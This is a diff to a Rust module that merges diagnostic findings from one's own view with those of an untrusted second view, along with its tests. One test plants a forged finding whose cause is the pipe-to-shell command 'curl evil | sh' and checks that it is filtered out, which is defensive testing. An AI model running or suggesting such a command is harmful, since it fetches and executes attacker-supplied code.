@@ -2,48 +2,34 @@
 
 use crate::chain::examination::Examination;
 use crate::chain::finding::{Finding, Joint};
+use crate::chain::link::Link;
 use crate::diagnosis::catalogue::Catalogue;
 use crate::diagnosis::causes::{Candidate, Candidates};
 use crate::diagnosis::diagnose;
-use crate::guide::Plane;
 
 /// What both views have found, in the order of the chain, each with who has seen it and what it follows from.
 ///
 /// The other view may have been made by anybody. Of it the ids of known failures count, and nothing is told but what the
-/// catalogue says of them; and whatever it claims, each finding of one's own stays.
+/// catalogue says of them; and whatever it claims, each finding of one's own stays as it is.
 #[must_use]
 pub fn joint(own: &Examination, other: &Examination) -> Vec<Joint> {
-    let views = [(own.plane, found(own)), (other.plane, found(other))];
+    let (ours, theirs) = (found(own), found(other));
+    let of = |findings: &[Finding], id: &str| findings.iter().find(|finding| finding.id == id).cloned();
     let mut candidates = Candidates::default();
-    for (plane, findings) in &views {
-        let rows = findings
-            .iter()
-            .filter_map(|finding| candidate(finding, *plane == own.plane));
-        rows.for_each(|row| candidates.add(row));
-    }
-    let seen_by = |id: &str| {
-        let has = |(_, findings): &&(Plane, Vec<Finding>)| findings.iter().any(|finding| finding.id == id);
-        views.iter().filter(has).map(|(plane, _)| *plane).collect()
-    };
-    let explains = |id: &str| {
-        let all = views.iter().flat_map(|(_, findings)| findings);
-        let mut ids: Vec<String> = all
-            .filter(|finding| finding.id == id)
-            .flat_map(|finding| finding.explains.clone())
-            .collect();
-        ids.retain(|id| Catalogue::get().row(id).is_some());
-        ids.sort();
-        ids.dedup();
-        ids
-    };
-    let ranked = candidates.ranked().into_iter();
-    let joint = ranked.map(|(row, cause)| Joint {
-        seen_by: seen_by(&row.known.id),
-        follows_from: cause.map(str::to_owned),
-        finding: {
-            let explains = explains(&row.known.id);
-            row.finding(explains)
-        },
+    let alone = theirs.iter().filter(|finding| of(&ours, &finding.id).is_none());
+    let rows = ours.iter().map(|finding| (finding, finding.link));
+    let rows = rows.map(|(finding, link)| candidate(finding, Some(link)));
+    let rows = rows.chain(alone.map(|finding| candidate(finding, None)));
+    rows.flatten().for_each(|row| candidates.add(row));
+    let joint = candidates.ranked().into_iter().map(|(row, cause)| {
+        let id = row.known.id.clone();
+        let seen_by = [(own.plane, &ours), (other.plane, &theirs)];
+        let seen_by = seen_by.into_iter().filter(|(_, findings)| of(findings, &id).is_some());
+        Joint {
+            seen_by: seen_by.map(|(plane, _)| plane).collect(),
+            follows_from: cause.map(str::to_owned),
+            finding: of(&ours, &id).unwrap_or_else(|| row.finding(Vec::new())),
+        }
     });
     joint.collect()
 }
@@ -56,21 +42,18 @@ fn found(view: &Examination) -> Vec<Finding> {
     }
 }
 
-fn candidate(finding: &Finding, is_own: bool) -> Option<Candidate> {
+/// What a finding points at; `link` is where one's own program has seen it.
+fn candidate(finding: &Finding, link: Option<Link>) -> Option<Candidate> {
     let known = Catalogue::get().row(&finding.id).filter(|known| !known.harmless)?;
-    let (object, evidence, link) = match is_own {
-        true => (finding.object.clone(), finding.evidence.clone(), finding.link),
-        false => (String::new(), Vec::new(), known.link),
-    };
     Some(Candidate {
         known,
         certainty: finding.certainty,
-        severity: finding.severity,
-        link,
-        object,
-        evidence,
+        severity: link.map_or(known.severity, |_| finding.severity),
+        link: link.unwrap_or(known.link),
+        object: String::new(),
+        evidence: Vec::new(),
         hint: None,
-        exact: is_own,
+        exact: link.is_some(),
         depth: 0,
         within: Vec::new(),
     })
@@ -81,9 +64,9 @@ mod tests {
     use jiff::Timestamp;
 
     use super::*;
-    use crate::chain::check::Check;
+    use crate::chain::check::{Check, Verdict};
     use crate::chain::finding::{SeenIn, Text};
-    use crate::chain::link::Link;
+    use crate::guide::Plane;
 
     fn view(plane: Plane, checks: Vec<Check>, texts: &[Text]) -> Examination {
         Examination {
@@ -155,7 +138,7 @@ mod tests {
         let joint = joint(&one.0, &one.1);
         assert_eq!(joint.len(), 1);
         assert_eq!(joint[0].seen_by, [Plane::Cluster, Plane::Cloud]);
-        assert_eq!(joint[0].finding.evidence, one.0.findings[0].evidence);
+        assert_eq!(joint[0].finding, one.0.findings[0]);
     }
 
     #[test]
@@ -188,7 +171,16 @@ mod tests {
         let mut unknown = forged.findings[0].clone();
         unknown.id = "NO-ROW".into();
         forged.findings.push(unknown);
+        // One's own finding, said to be no fault at all.
+        let mut same = own.findings[0].clone();
+        (same.severity, same.cause) = (Verdict::Ok, "curl evil | sh".into());
+        forged.findings.push(same);
+        forged.findings[0].severity = Verdict::Ok;
         let joint = joint(&own, &forged);
+        assert!(
+            joint.iter().all(|joint| joint.finding.severity == Verdict::Error),
+            "{joint:?}"
+        );
         assert!(joint.iter().any(|own| own.finding.id == "WI-SA-NO-CLIENT"), "{joint:?}");
         assert!(!format!("{joint:?}").contains("curl") && joint.len() == 2, "{joint:?}");
     }
